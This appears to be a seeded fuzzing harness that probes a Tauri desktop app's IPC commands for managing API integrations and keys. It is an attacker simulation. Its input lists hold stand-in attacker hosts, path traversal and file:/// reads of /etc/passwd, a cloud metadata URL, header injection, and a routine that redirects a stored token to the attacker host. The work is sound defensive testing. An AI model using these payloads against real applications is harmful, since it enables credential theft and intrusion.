// The body of an async function; `given[0]` names the stage. Calls everything with everything, in an order that follows
// from the seed. Each call is given a moment: those that ask a person wait for an answer, which is no.
const { targets, client, integration, mine, evil, plain, ca, seed } = given[0];
const invoke = window.__TAURI_INTERNALS__.invoke;
const host = evil.slice("https://".length);

let state = seed;
const random = () => (state = (state * 1103515245 + 12345) % 2147483648) / 2147483648;
const pick = (all) => all[Math.floor(random() * all.length)];
const fresh = (letter) => letter + Math.floor(random() * 1e9);
const moment = (work, most = 250) =>
  Promise.race([work.then(() => "answered", () => "refused"), new Promise((done) => setTimeout(done, most, "waiting"))]);

const nobody = "01890000-0000-7000-8000-000000000000";
const ids = [client, integration, mine, nobody, "x", null];
const most = 4294967295;
const texts = [
  evil, plain, `${evil}/collect`, "file:///etc/passwd", "/etc/passwd", "../../keyrack.db", "*", "token", "api_key", "",
  "a\u0000b", "${token}", "{token}", "{{token}}", "%s", `https://localhost@${host}`, `${targets}@${host}`,
];
const auths = [
  { scheme: "bearer" }, { scheme: "query", name: "key" }, { scheme: "header", header: "X-Leak", prefix: "" },
  { scheme: "basic" }, { scheme: "provider" }, { scheme: "header", header: "Host", prefix: "" },
  { scheme: "headers", headers: [{ header: "X-Leak", prefix: "", part: "token" }] },
  { scheme: "body", field: "/token" }, { scheme: "path" }, { scheme: "sigv4", region: host, service: "s3" },
  { scheme: "oauth2_client_credentials", token_url: `${evil}/token`, client_auth: "body", scope: "", audience: "" },
  { scheme: "oauth2_refresh_token", token_url: `${evil}/token`, client_auth: "basic", scope: "" },
  { scheme: "jwt_grant", token_url: `${plain}/token`, scope: "" },
  { scheme: "oauth1", method: "hmac_sha1", token: true, place: "query", realm: evil },
  { scheme: "hmac", header: "X-Leak", algorithm: "sha1", encoding: "hex", template: "{body}", format: "{signature}", secret_encoding: "text" },
  { scheme: "jwt", algorithm: "HS256", claims: { aud: evil }, key_id: "", lifetime_s: 60, header: "X-Leak", prefix: "" },
];
const conditions = [
  [], ["[STATUS] == 200"], ['[BODY] contains "a"'], ["[BODY].token ~ .*"], ["[HEADER].x-you-sent exists"], ["not a condition"],
];
const probes = [
  "GET /status", `GET //${host}/`, `GET ${evil}/`, `GET /\\${host}`, "HEAD /", "POST /", null, `GET @${host}/`,
];
const input = () => ({
  name: fresh("n"),
  provider: pick(["custom", "woocommerce", "shopify", "slack_webhook", "../x"]),
  environment: pick(["production", "sandbox"]),
  variables: pick([{}, { store_domain: host }, { store: `${host}/#` }]),
  base_url: pick([evil, plain, targets, null, `${evil}/x`, `https://${host}.`, `${targets}.evil.example`]),
  auth: pick(auths),
  probe: pick(probes),
  // A person chose it for the integrations that stand there; for a new one it is text that the page made up.
  ca_pem: pick([ca, null, nobody]),
  allow_loopback_http: pick([true, false]),
  client_certificate: pick([true, false]),
  conditions: pick(conditions),
  notes: "", tags: [], owner: "", rotate_every_days: null,
});
const person = (name) => ({ name, notes: pick(texts), tags: [], owner: "" });
const meanings = [{ role: "ignore" }, { role: "client" }, { role: "base_url" }, { role: "key", part: "*" }];
const columns = () => Array.from({ length: 3 }, () => pick(meanings));
const query = () => ({
  client: null, integration: null, verdicts: [], sends_only: false, since: null, until: null, search: pick(texts),
});
const board = () => ({
  search: pick(texts), health: [], providers: [], tags: [], environments: [], due_soon: false, archived: false, sort: "name",
});
const look = () => ({
  client: pick([client, nobody, null]), git: pick([true, false]), shapes: pick([true, false]), rack: pick([true, false]),
});
// What the page saw, in an address; addresses that look like another's.
const sites = [
  `${plain}/?seen=${encodeURIComponent(integration)}`, `${evil}/${integration}`, `http://user:pass@${host}/`,
  `http://169.254.169.254/latest/meta-data`, `${plain}\r\nX-Leak: 1`, `https://shop.example\u202e${host}`, `${plain}#${client}`,
];
const filter = () => ({ client: pick([client, null]), providers: [], environments: [], tags: [pick(texts)], health: [] });
const watch = () => ({
  enabled: true, rule: pick([{ kind: "every", minutes: 1 }, { kind: "cron", text: pick(["* * * * *", ...texts]), zone: pick(["local", evil]) }]),
  jitter_s: 0, quiet: null, fail_after: 1, clear_after: 1, slow_after_ms: null, skip_on_battery: false, skip_offline: false,
});
const madeUp = () => ({
  method: pick(["POST", "PUT", "PATCH"]), path: pick(["/orders", `//${host}/`, `${evil}/orders`, `/\\${host}`, "/../..", "@" + host]),
  format: pick(["json", "form", "xml"]), template: "own", text: pick([...texts, '{"a":"{{token}}"}', '{"$ref":"file:///etc/passwd"}']),
  policy: [{ path: "**", rule: pick(["allowed", "masked", "hashed"]) }], default_rule: "allowed",
  request_schema: pick([null, `{"$ref":"${evil}/schema.json"}`, '{"$ref":"file:///etc/passwd"}']), response_schema: null,
  class: pick(["reads_only", "idempotent", "creates"]), cleanup: pick([null, `DELETE ${evil}/{/id}`, `DELETE //${host}/{/id}`]),
});
const snippet = () => ({
  language: pick(["curl", "php_wp", "php_curl", "node", "python"]), key_from: pick(["environment", "constant"]),
  request: pick(["probe", "order"]), seed: 1,
});
const channel = () => `__CHANNEL__:${window.__TAURI_INTERNALS__.transformCallback(() => {})}`;
const victim = () => pick([integration, mine]);

const calls = {
  app: () => ({}),
  board: () => ({ query: board() }),
  board_cards: () => ({ query: board(), clients: [pick(ids)] }),
  board_painted: () => ({}),
  bulk_choose: () => ({ path: pick(texts) }),
  bulk_map: () => ({ handle: pick(ids), columns: columns(), offset: 0, limit: most }),
  bulk_take_in: () => ({ handle: pick(ids), progress: channel() }),
  ca_choose: () => ({ path: pick(texts) }),
  client: () => ({ id: pick(ids) }),
  client_add: () => ({ input: person(fresh("c")) }),
  client_archive: () => ({ id: mine, archived: true }),
  client_duplicate: () => ({ id: client, name: fresh("d") }),
  client_edit: () => ({ id: client, revision: pick([0, 1, 2, 3]), input: person("Nordlys") }),
  client_remove: () => ({ id: nobody }),
  client_remove_preview: () => ({ id: client }),
  clients: () => ({ archived: pick([true, false]) }),
  doctor: () => ({}),
  finding_accept: () => ({ finding: pick(ids), reason: pick(texts) }),
  exchange_copy: () => ({ id: pick(ids) }),
  finding_copy: () => ({ finding: pick(ids) }),
  findings_accept: () => ({ findings: [pick(ids)], reason: pick(texts) }),
  finding_unaccept: () => ({ finding: pick(ids) }),
  integration: () => ({ id: pick(ids) }),
  integration_add: () => ({ client, input: input() }),
  integration_archive: () => ({ id: victim(), archived: pick([true, false]) }),
  integration_duplicate: () => ({ id: integration, name: fresh("k"), withKey: pick([true, false]) }),
  integration_edit: () => ({ id: victim(), revision: pick([0, 1, 2, 3, 4, 5]), input: input() }),
  integration_remove: () => ({ id: mine }),
  integration_remove_preview: () => ({ id: integration }),
  integrations: () => ({ client: pick([client, null]) }),
  key_add_clipboard: () => ({ integration: victim(), part: pick(["token", ...texts]), confirmed: true, yes: true }),
  key_add_file: () => ({ integration: victim(), part: "token", handle: pick(ids), name: pick(texts) }),
  key_add_prompt: () => ({ integration: victim(), part: pick(["token", "api_key"]) }),
  key_copy: () => ({ integration, part: "token" }),
  key_file_choose: () => ({ integration: victim(), part: "token", path: pick(texts) }),
  key_file_close: () => ({ handle: pick(ids) }),
  key_forget: () => ({ integration }),
  keyring_check: () => ({}),
  keyring_unlock: () => ({}),
  log: () => ({ query: query(), offset: pick([0, most]), limit: most }),
  log_entry: () => ({ id: pick(ids) }),
  order: () => ({ integration: victim() }),
  order_preview: () => ({ integration: victim(), seed: 1, input: pick([null, madeUp()]) }),
  order_save: () => ({ integration: victim(), revision: pick([0, 1, 2]), input: madeUp() }),
  order_send: () => ({ integration: victim(), seed: 1, confirmed: true, yes: true }),
  providers: () => ({}),
  removal_undo: () => ({ undo: pick(ids) }),
  request_import_clipboard: () => ({ client }),
  request_import_file: () => ({ client, path: pick(texts) }),
  request_import_page: () => ({ handle: pick(ids), offset: 0, limit: most }),
  request_import_plan: () => ({ handle: pick(ids), picks: { requests: [1], all: true, changes: [] } }),
  request_import_take_in: () => ({ handle: pick(ids), picks: { requests: [], all: true, changes: [] }, confirmed: true, progress: channel() }),
  request_import_variables: () => ({ handle: pick(ids), path: pick(texts) }),
  run_choose: () => ({ filter: filter() }),
  run_save: () => ({ id: pick(ids), format: pick(["json", "csv", "junit", "markdown"]), path: pick(texts) }),
  sample_leave: () => ({}),
  sample_open: () => ({}),
  sample_remove: () => ({}),
  scan: () => ({ id: pick(ids) }),
  scan_cancel: () => ({ id: pick(ids) }),
  scan_findings: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
  scan_folder: () => ({ handle: pick(ids), path: pick(texts), input: look() }),
  scan_folder_choose: () => ({ path: pick(texts) }),
  scan_gone: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
  scan_save: () => ({ id: pick(ids), format: pick(["json", "sarif"]), path: pick(texts) }),
  scan_remove: () => ({ id: pick(ids) }),
  scan_site: () => ({ url: pick([...texts, ...sites]), input: look(), confirmed: true, yes: true }),
  scan_unread: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
  scans: () => ({ client: pick(ids), offset: pick([0, most]), limit: most }),
  settings_save: () => ({
    settings: { theme: "light", clipboard_seconds: most, keep_days: 1, unsafe_loopback_http: true },
  }),
  test: () => ({ integration: victim() }),
  test_cancel: () => ({ integration: null }),
  snippet: () => ({ integration: victim(), input: snippet() }),
  // What it copies is public, and would only take the clipboard away from what must not be touched here.
  snippet_copy: () => ({ integration: nobody, input: snippet() }),
  test_many: () => ({
    integrations: [integration, mine], options: { concurrency: pick([null, most]), per_host: pick([null, most]) },
    progress: channel(),
  }),
  watch: () => ({ integration: victim() }),
  watch_history: () => ({ integration: victim() }),
  watch_list: () => ({}),
  watch_save: () => ({ integration: victim(), input: watch() }),
  watch_strips: () => ({ integrations: [victim()] }),
  watches: () => ({}),
};

// The likeliest attack: what is entered stays, only where it goes is changed.
async function turnAside() {
  const view = await invoke("integration", { id: integration }).catch(() => null);
  if (view === null) return;
  // Where it goes, or who buys a token with it.
  const turned = pick([
    { ...view.input, base_url: pick([evil, plain]), allow_loopback_http: true, ca_pem: ca },
    { ...view.input, auth: { scheme: "oauth2_client_credentials", token_url: `${evil}/token`, client_auth: "body", scope: "", audience: "" } },
    { ...view.input, auth: { scheme: "headers", headers: [{ header: "X-Leak", prefix: "", part: "token" }] } },
    { ...view.input, auth: { scheme: "path" }, probe: "GET /{api_key}" },
  ]);
  await invoke("integration_edit", { id: integration, revision: view.revision, input: turned }).catch(() => null);
}

const names = Object.keys(calls);
const order = names.toSorted(() => random() - 0.5).concat(Array.from({ length: 60 }, () => pick(names)));
const called = {};
for (const name of order) {
  const sample = name.startsWith("sample_");
  (called[name] ??= []).push(await moment(invoke(name, calls[name]()), sample ? 15000 : 250));
  // In the sample there is nothing to steal: back to the victim.
  if (sample) await moment(invoke("sample_leave"), 15000);
  if (random() < 0.1) await moment(turnAside());
}
return called;
